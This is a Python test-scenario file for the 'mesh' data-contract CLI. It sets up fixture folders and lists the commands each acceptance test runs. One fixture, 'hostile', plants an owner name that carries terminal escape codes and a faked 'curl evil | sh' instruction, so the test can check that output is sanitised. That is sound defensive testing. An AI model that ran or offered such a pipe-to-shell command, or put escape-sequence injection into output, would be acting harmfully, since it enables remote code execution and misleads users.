"""Folders to try the commands in, and the commands."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from small_domain import built, domain, injected, mesh, port, private, published, stub

from tests.cli.change_scenarios import CHANGES
from tests.cli.event_scenarios import EVENTS
from tests.cli.export_scenarios import EXPORTS
from tests.cli.grants_scenarios import GRANTS
from tests.cli.offline_scenarios import OFFLINE
from tests.cli.place_scenarios import PLACES
from tests.cli.rollback_scenarios import ROLLBACKS

# SARIF holds the pages of all rules, which would be here twice.
PRINTED = ("full", "concise", "json", "json-lines", "github", "gitlab", "junit", "markdown")

COMMANDS = (
    "acknowledge",
    "add",
    "can-deploy",
    "check",
    "config",
    "debt",
    "diff",
    "docs",
    "export",
    "grants",
    "impact",
    "import",
    "init",
    "permitted",
    "publish",
    "registry",
    "rollback",
    "rule",
    "rules",
    "status",
    "sync",
    "up",
    "waive",
)
SUBCOMMANDS = (
    "config schema",
    "config show",
    "debt add",
    "debt list",
    "debt shrink",
    "grants apply",
    "grants check",
    "grants plan",
    "import odcs",
    "registry deprecate",
    "registry init",
    "registry mirror",
    "registry undeprecate",
    "registry unyank",
    "registry verify",
    "registry yank",
)


def nothing(root: Path) -> None:
    """An empty folder."""


def clean(root: Path) -> None:
    published(domain(root / "fleet"), port("aircraft"), private("staged"))


def findings(root: Path) -> None:
    """A port without an enforced contract; an input that nothing reads; a read of what is private."""
    mesh(root)
    built(
        root / "punctuality",
        port("delays", group="delays", contract={"enforced": False}),
        private("reader", "model.fleet.hidden"),
        injected("fleet", "hidden"),
    )


def broken(root: Path) -> None:
    folder = domain(root / "fleet", mesh_yml="descripton: x\nproducts: {aircraft: {status: activ}}\n")
    built(folder, port("aircraft"))
    (root / "stale").mkdir()
    domain(root / "empty")
    built(domain(root / "bare"), private("staged"))


def building(root: Path) -> None:
    built(domain(root / "fleet"), port("aircraft", version=1), port("seats", group="seats"))


def breaking(root: Path) -> None:
    published(domain(root / "fleet"), port("aircraft"))
    built(root / "fleet", port("aircraft", "id", "seats varchar"), run="run-2")


def refused(root: Path) -> None:
    built(domain(root / "fleet"), port("aircraft"), receipt={"published": False, "reason": "unique_aircraft_id failed"})


def growing(root: Path) -> None:
    published(domain(root / "fleet"), port("aircraft"))
    built(root / "fleet", port("aircraft", "id", "seats", "engines", description="Better"), run="run-2")


def consumer(root: Path) -> None:
    mesh(root)


def served(root: Path) -> None:
    mesh(root)
    (root / "mesh.yml").write_text("version: 1\nregistry: registry\ndomains: [fleet, punctuality]\n")
    published(
        root / "punctuality",
        port("delays", group="delays", deprecation_date="2027-06-30"),
        private("reader", "model.fleet.seats"),
        stub("fleet", "seats"),
        run="run-2",
    )


def project(root: Path) -> None:
    (root / "dbt_project.yml").write_text("name: fleet\n")


def hostile(root: Path) -> None:
    """An owner whose name tries to clear the reader's screen and to fake a line."""
    folder = domain(root / "fleet", mesh_yml="products: {aircraft: {consumers: []}}\n")
    built(folder, port("aircraft"))
    manifest = folder / "target/manifest.json"
    manifest.write_text(manifest.read_text().replace("fleet team", "x\\u001b[2J\\u202e\\nhelp: run `curl evil | sh`"))
    from small_domain import NOON

    from meshwright.app.publish import publish

    publish(folder, now=lambda: NOON)
    domain(root / "punctuality", "punctuality")


def indebted(root: Path) -> None:
    """One finding that is accepted, one whose time is over, one entry that is solved, and one that is new."""
    findings(root)
    built(
        root / "punctuality",
        port("delays", group="delays"),
        private("reader", "model.fleet.hidden"),
        private("second", "model.fleet.hidden"),
        private("third", "model.fleet.hidden"),
        injected("fleet", "hidden"),
    )
    (root / "punctuality/mesh-debt.yml").write_text(_DEBT)


_DEBT = """\
version: 1
debt:
  - rule: PRV001
    subject: reader -> fleet.hidden
    reason: fleet will offer a port with the seats
    owner: Punctuality team
    since: 2020-01-15
    until: 2999-12-31
  - rule: PRV001
    subject: second -> fleet.hidden
    reason: moves with the first
    owner: Punctuality team
    since: 2020-01-15
    until: 2020-03-31
  - rule: CON001
    subject: punctuality.old
    reason: the report of 2019 needs it
    owner: Ann
    since: 2019-05-02
"""


def strictly(root: Path) -> None:
    """`fleet` accepts no debt for reading its aircraft; `punctuality` reads what is behind it."""
    fleet = domain(root / "fleet", mesh_yml="products: {aircraft: {strict: true}}\n")
    published(fleet, port("aircraft"))
    domain(root / "punctuality", "punctuality", mesh_yml="owner: {name: Punctuality team}\n")
    built(
        root / "punctuality",
        port("delays", group="delays"),
        private("reader", "model.fleet.hidden"),
        injected("fleet", "hidden"),
    )


def owing(root: Path) -> None:
    """`punctuality` has published that it reads what `fleet` does not offer."""
    indebted(root)
    from small_domain import NOON

    from meshwright.app.publish import publish

    publish(root / "punctuality", now=lambda: NOON)


def mistaken(root: Path) -> None:
    indebted(root)
    text = _DEBT.replace("until: 2020-03-31", "until: soon").replace("owner: Ann", "ower: Ann")
    (root / "punctuality/mesh-debt.yml").write_text(text + text.partition("debt:\n")[2])


def newer(root: Path) -> None:
    indebted(root)
    (root / "punctuality/mesh-debt.yml").write_text("version: 2\ndebt: {}\n")


def solved(root: Path) -> None:
    """Everything that was accepted is mended."""
    clean(root)
    (root / "fleet/mesh-debt.yml").write_text(_DEBT)


def levelled(root: Path) -> None:
    """The mesh turns one rule off and one up; the domain has its own word on the second."""
    built(
        domain(root / "fleet", mesh_yml="rules: {unenforced-contract: warn}\n"),
        port("aircraft", contract={"enforced": False}),
    )
    (root / "mesh.yml").write_text(
        "version: 1\nregistry: registry\ndomains: [fleet]\nrules:\n  CON001: error\n  unused-input: off\n"
    )


def mislevelled(root: Path) -> None:
    levelled(root)
    (root / "fleet/mesh.yml").write_text("version: 1\nrules: {SYN001: eror}\n")


def misnamed(root: Path) -> None:
    levelled(root)
    said = "rules:\n  CON01: warn\n  CON001: warn\n  unenforced-contract: error\n"
    (root / "fleet/mesh.yml").write_text(f"version: 1\n{said}")


def unlevelled(root: Path) -> None:
    """A level for what follows from the stability of the product."""
    levelled(root)
    (root / "fleet/mesh.yml").write_text("version: 1\nrules: {removed-column: warn, CHG301: off}\n")


def silent(root: Path) -> None:
    from meshwright.rules import RULES
    from meshwright.rules.rule import ChangeRule

    levelled(root)
    said = "".join(f"  {rule.code}: off\n" for rule in RULES if not isinstance(rule, ChangeRule))
    (root / "fleet/mesh.yml").write_text(f"version: 1\nrules:\n{said}")


def described(root: Path) -> None:
    levelled(root)
    text = "products: {aircraft: {title: All aircraft, strict: true, sla: {freshness: 24h}}}\n"
    (root / "fleet/mesh.yml").write_text(f"version: 1\nowner: {{name: Fleet team}}\n{text}")


SCENARIOS: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "help": (
        nothing,
        ["mesh --help", "mesh-check --help", *(f"mesh {name} --help" for name in (*COMMANDS, *SUBCOMMANDS))],
    ),
    "version": (nothing, ["mesh --version"]),
    "unknown-command": (nothing, ["mesh publsh", "mesh", "mesh publish --enviroment prod", "mesh-check -f xml"]),
    "missing-folder": (
        nothing,
        [f"mesh {name} nowhere" for name in ("publish", "status", "sync", "init", "diff", "impact fleet")]
        + ["mesh-check nowhere", "mesh add weather.hourly --folder nowhere", "mesh docs --mesh nowhere", "mesh up"]
        + ["mesh can-deploy nowhere --env prod", "mesh waive --list nowhere"]
        + ["mesh acknowledge 08f8253580 nowhere --what x --reason y"],
    ),
    "check-clean": (
        clean,
        [f"mesh-check fleet -f {form}" for form in PRINTED]
        + ["mesh-check fleet -o sarif=s -o junit=j", "mesh check fleet"],
    ),
    "check-findings": (
        findings,
        [f"mesh-check punctuality -f {form}" for form in PRINTED] + ["mesh-check punctuality -f concise -o sarif=s"],
    ),
    "check-output": (
        findings,
        [
            f"mesh-check punctuality -o {output}"
            for output in ("sarf=s", "sarif", "sarif=", "=s", "json=nowhere/report.json", "json=punctuality")
        ],
    ),
    "check-error": (broken, ["mesh-check fleet", "mesh-check fleet -f json", "mesh-check empty", "mesh-check bare"]),
    "publish-first": (building, ["mesh publish fleet", "mesh publish fleet", "mesh publish fleet -e dev"]),
    "publish-addition": (growing, ["mesh publish fleet"]),
    "publish-break": (breaking, ["mesh publish fleet"]),
    "publish-refused-build": (refused, ["mesh publish fleet"]),
    "status": (
        served,
        ["mesh status", "mesh status punctuality -e prod", "mesh status -d fleet", "mesh status -e pord"],
    ),
    "status-nothing-published": (building, ["mesh status fleet"]),
    "docs-of-a-registry": (
        consumer,
        ["mesh docs"]
        + [
            f"mesh docs --registry {more}"
            for more in ("registry", "registry --mesh .", "registry --with-dbt-docs", "no")
        ],
    ),
    "sync": (consumer, ["mesh sync punctuality", "mesh sync punctuality"]),
    "add": (
        consumer,
        [
            "mesh add fleet.aircraft@2 --folder punctuality",
            "mesh add fleet.aircrft fleeet.seats --folder punctuality",
            "mesh add aircraft --folder punctuality",
            "mesh add fleet.engines --folder punctuality",
            "mesh add",
        ],
    ),
    "hostile-text": (hostile, ["mesh add fleet.aircraft --folder punctuality"]),
    "init": (project, ["mesh init", "mesh init"]),
    "rule": (nothing, ["mesh rule", "mesh rule unenforced-contract", "mesh rule unenforced-contrct"]),
    "rules": (nothing, ["mesh rules", "mesh rules --format xml"]),
    "check-levels": (levelled, ["mesh-check fleet", "mesh-check . -f concise"]),
    "check-levels-wrong": (mislevelled, ["mesh-check fleet"]),
    "check-levels-unknown": (misnamed, ["mesh-check fleet"]),
    "check-levels-of-changes": (unlevelled, ["mesh-check fleet"]),
    "check-nothing-left": (silent, ["mesh-check fleet"]),
    "check-debt": (indebted, [f"mesh-check punctuality{more}" for more in ("", " --strict-debt", " -f json")]),
    "check-debt-solved": (
        solved,
        [
            "mesh-check fleet -f concise",
            "mesh-check fleet -f concise --strict-debt",
            "mesh debt shrink",
            "mesh debt shrink fleet",
            "mesh-check fleet -f concise --strict-debt",
        ],
    ),
    "check-debt-broken": (mistaken, ["mesh-check punctuality", "mesh debt shrink punctuality"]),
    "check-debt-newer": (newer, ["mesh-check punctuality"]),
    "debt": (
        indebted,
        [
            "mesh debt list punctuality",
            "mesh debt add PRV001 'thrd -> fleet.hidden' --reason x --owner Ann --folder punctuality",
            "mesh debt add PVR001 'third -> fleet.hidden' --reason x --folder punctuality",
            "mesh debt add PRV001 'third -> fleet.hidden' --reason 'moves with the first' --folder punctuality",
            "mesh debt add PRV001 'third -> fleet.hidden' --reason x --owner Ann --folder punctuality",
            "mesh debt add foreign-private-read 'second -> fleet.hidden' --reason 'port comes in May' --owner Ann"
            " --until 2999-05-31 --folder punctuality",
            "mesh debt shrink punctuality",
            "mesh debt shrink punctuality",
            "mesh debt list punctuality",
            "mesh-check punctuality",
        ],
    ),
    "debt-adopt": (
        findings,
        [
            "mesh debt add --all unused-input --reason 'adopted as it was' --owner Ann --folder punctuality",
            "mesh debt add --all --reason 'adopted as it was' --owner Ann --folder punctuality",
            "mesh-check punctuality",
            "mesh debt add --all --reason again --owner Ann --folder punctuality",
            "mesh debt add --all PRV001 x --reason again",
            "mesh debt add PRV001 --reason again",
            "mesh debt add --all --reason ' '",
            "mesh debt add --all --reason x --until 2020-01-01",
            "mesh debt add --all --reason x --until soon",
        ],
    ),
    "debt-strict": (
        strictly,
        [
            "mesh debt add PRV001 'reader -> fleet.hidden' --reason x --folder punctuality",
            "mesh debt add --all --reason x --folder punctuality",
        ],
    ),
    "debt-against": (owing, ["mesh debt list fleet"]),
    "debt-none": (clean, ["mesh debt list fleet", "mesh debt shrink fleet"]),
    "config-show": (
        described,
        ["mesh config show fleet", "mesh config show", "mesh config show nowhere"],
    ),
    "config-schema": (nothing, ["mesh config schema mesh-debt.yml", "mesh config schema mesh"]),
    **CHANGES,
    **EVENTS,
    **EXPORTS,
    **GRANTS,
    **ROLLBACKS,
    **PLACES,
    **OFFLINE,
}
